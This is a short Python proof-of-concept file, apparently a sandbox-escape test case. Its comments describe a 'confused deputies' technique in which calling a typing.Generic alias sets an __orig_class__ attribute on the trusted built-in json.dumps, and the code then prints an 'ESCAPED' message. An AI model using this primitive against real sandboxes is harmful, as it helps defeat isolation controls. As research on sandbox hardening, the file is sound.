# technique: calling a generic alias makes the object and sets an attribute on it
# goal: bend
# source: own analysis: confused deputies
import json
import typing


class Origin(typing.Generic[typing.TypeVar('T')]):
    def __new__(cls):
        return json.dumps


Origin[int]()
if json.dumps.__orig_class__:
    print('ESCAPED attribute of a trusted function set')
